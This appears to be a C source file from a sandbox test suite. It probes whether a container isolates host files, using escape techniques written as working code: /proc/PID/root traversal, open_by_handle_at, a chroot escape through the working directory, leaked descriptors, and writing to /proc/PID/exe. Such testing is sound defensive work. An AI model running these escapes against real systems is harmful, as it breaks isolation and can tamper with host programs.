// SPDX-License-Identifier: Apache-2.0
/* Files of the host: by path, through /proc, by handle, from a directory or descriptor that was
 * left open. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "prove/prove.h"

enum { FDS_MAX = 1024, PATH_BYTES = 512 };

void attempt_file(const struct facts *facts, struct result *ret)
{
    token_read(facts, open(facts->file, O_RDONLY | O_CLOEXEC), ret, "open");
}

void attempt_proc_root(const struct facts *facts, struct result *ret)
{
    DIR *dir = opendir("/proc");
    const struct dirent *entry;
    char path[PATH_BYTES];

    if (!dir) {
        held(ret, "open /proc");
        return;
    }
    while (!ret->is_reached && (entry = readdir(dir))) {
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
            continue;
        (void)snprintf(path, sizeof(path), "/proc/%.20s/root%s", entry->d_name, facts->file);
        token_read(facts, open(path, O_RDONLY | O_CLOEXEC), ret, "open /proc/PID/root");
    }
    (void)closedir(dir);
}

static size_t handle_decode(const char *text, unsigned char *ret, size_t size)
{
    size_t len = strlen(text) / 2;
    unsigned byte;

    for (size_t i = 0; i < len && i < size; i++) {
        if (sscanf(text + 2 * i, "%2x", &byte) != 1) // NOLINT(cert-err34-c): two hexadecimal digits
            return 0;
        ret[i] = (unsigned char)byte;
    }
    return len < size ? len : 0;
}

/* The host's filesystems are in every sandbox of the template `host`: /usr is one. */
void attempt_handle(const struct facts *facts, struct result *ret)
{
    const char *const places[] = { "/usr", "/", "/etc", "/workspace", "/tmp", facts->dir };
    union {
        struct file_handle handle;
        unsigned char bytes[sizeof(struct file_handle) + HANDLE_BYTES_MAX];
    } decoded = { 0 };

    if (handle_decode(facts->handle, decoded.bytes, sizeof(decoded.bytes)) == 0) {
        errno = 0;
        absent(ret, "the filesystem of the host has no handles");
        return;
    }
    for (size_t i = 0; !ret->is_reached && i < sizeof(places) / sizeof(places[0]); i++) {
        int mount_fd = open(places[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

        token_read(
            facts,
            mount_fd < 0 ? -1 : open_by_handle_at(mount_fd, &decoded.handle, O_RDONLY | O_CLOEXEC),
            ret, "open_by_handle_at");
        if (mount_fd >= 0)
            (void)close(mount_fd);
    }
}

void attempt_cwd(const struct facts *facts, struct result *ret)
{
    char path[PATH_BYTES];

    (void)snprintf(path, sizeof(path), "../../../../../../../../../../../../../../../..%s",
                   facts->file);
    token_read(facts, openat(AT_FDCWD, path, O_RDONLY | O_CLOEXEC), ret, "open below ../..");
}

/* A root that is changed without the working directory: what the attempt is about. */
void prepare_cwd(const struct facts *facts)
{
    (void)!chdir("/");
    (void)!chroot(facts->dir);
}

static bool is_open[FDS_MAX];

void descriptors_note(void)
{
    for (int fd = 0; fd < FDS_MAX; fd++)
        is_open[fd] = fcntl(fd, F_GETFD) >= 0;
}

void attempt_descriptors(const struct facts *facts, struct result *ret)
{
    char link[64], target[PATH_BYTES];
    ssize_t n;

    (void)facts;
    errno = 0;
    held(ret, "no descriptor but 0, 1 and 2");
    for (int fd = 3; fd < FDS_MAX; fd++) {
        if (!is_open[fd])
            continue;
        (void)snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        n = readlink(link, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        reached(ret, "descriptor %d is open: %.100s", fd, target);
    }
}

void prepare_descriptor(const struct facts *facts)
{
    (void)open(facts->dir, O_RDONLY | O_DIRECTORY); // NOLINT(android-cloexec-open): it leaks
    descriptors_note();
}

/* ETXTBSY is a success: the program can be written once it has ended, which was the attack. */
void attempt_init_program(const struct facts *facts, struct result *ret)
{
    unsigned long long pid = facts->is_inside ? 1 : facts->pid;
    char path[64];
    int fd;

    (void)snprintf(path, sizeof(path), "/proc/%llu/exe", pid);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 || errno == ETXTBSY)
        reached(ret, "%s can be written", path);
    else
        held(ret, "open for writing");
    if (fd >= 0)
        (void)close(fd);
}
